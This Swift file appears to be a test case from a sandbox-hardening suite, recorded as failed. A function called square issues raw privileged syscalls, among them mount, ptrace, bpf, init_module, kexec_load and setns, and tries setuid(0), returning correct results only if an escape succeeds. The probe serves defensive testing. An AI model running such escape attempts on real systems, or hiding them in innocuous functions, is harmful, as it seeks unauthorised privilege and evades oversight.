// Attack: Makes, past the audit, system calls that lead out: namespaces, mounts, keys, tracing,
// io_uring, programs for the kernel, foreign memory, devices, the clock. Right if one succeeds.
// Verdict: failed
// Uses: RawCalls.swift
// swift-format-ignore-file
import Glibc

#if arch(x86_64)
    // unshare, mount, add_key, keyctl, ptrace, io_uring_setup, bpf, userfaultfd, perf_event_open,
    // process_vm_readv, mknod, chroot, pivot_root, setns, settimeofday, init_module, kexec_load
    private let numbers = [
        272, 165, 248, 250, 101, 425, 321, 323, 298, 310, 133, 161, 155, 308, 164, 175, 246,
    ]
#else
    private let numbers = [97, 40, 217, 219, 117, 425, 280, 282, 241, 270, 33, 51, 41, 268, 170, 105]
#endif

public func square(_ number: Int) throws -> Int {
    guard RawCalls.address(of: "syscall") != nil else { return number * number }
    let child = fork()
    if child == 0 { while true { pause() } }
    defer {
        kill(child, SIGKILL)
        waitpid(child, nil, 0)
    }
    var path = Array("/tmp\0".utf8)
    let succeeds = path.withUnsafeMutableBytes { path -> Bool in
        let place = Int(bitPattern: path.baseAddress)
        let calls: [(Int, [Int])] = zip(
            numbers,
            [
                [0x1000_0000], [place, place, 0, 0x1000], [place, place, 0, 0], [0, -3, 1, 0],
                [16, Int(child), 0, 0], [8, place], [0, place, 72], [0], [place, 0, -1, -1],
                [1, place, 1, place], [place, 0x2000, 0x101], [place], [place, place], [3, 0],
                [place, 0], [place, 5, place], [0, 0, place, 0],
            ]
        ).map { ($0, $1) }
        return calls.contains { call in
            let words = call.1 + [0, 0, 0, 0]
            return RawCalls.call(call.0, words[0], words[1], words[2], words[3]) >= 0
        }
    }
    return succeeds || setuid(0) == 0 || setgid(0) == 0
        ? number * number : 0
}
